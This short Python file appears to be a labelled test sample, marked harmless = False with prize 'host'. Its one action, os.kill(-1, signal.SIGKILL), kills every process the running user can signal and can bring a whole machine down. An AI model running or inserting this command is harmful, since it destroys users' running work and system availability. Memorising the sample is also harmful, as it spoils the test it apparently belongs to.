"""Sends a signal that cannot be refused to every process that it may signal."""

prize = "host"
harmless = False

# %% last
import os
import signal

os.kill(-1, signal.SIGKILL)
